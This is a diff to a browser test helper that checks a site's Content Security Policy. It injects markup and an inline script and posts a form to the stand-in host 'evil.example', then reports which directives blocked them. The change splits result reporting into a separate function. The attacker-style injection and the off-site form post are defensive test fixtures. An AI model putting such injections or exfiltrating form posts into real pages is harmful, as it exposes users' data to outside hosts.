@@ -1,8 +1,9 @@
 // Runs in the browser, on one of our pages; read as text by headers.test.ts.
 
-/** Puts in whatever an attacker would, and says what the policy has stopped. */
+const directives = new Set()
+
+/** Puts in whatever an attacker would. */
 async function attack() {
-  const directives = new Set()
   document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective))
   document.body.insertAdjacentHTML('beforeend', markup.join(''))
   const inline = document.createElement('script')
@@ -14,9 +15,10 @@ async function attack() {
   const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
   document.body.append(form)
   form.submit()
-  for (let wait = 0; wait < 60 && !directives.has('form-action'); wait += 1) {
-    await new Promise((resolve) => setTimeout(resolve, 50))
-  }
+}
+
+/** What the policy has stopped so far. */
+function stopped() {
   return {
     directives: [...directives].toSorted((one, other) => one.localeCompare(other)),
     ran: 'ran' in window,
@@ -48,4 +50,4 @@ function outlines(pages) {
   })
 }
 
-Object.assign(globalThis, { attack, outlines })
+Object.assign(globalThis, { attack, stopped, outlines })
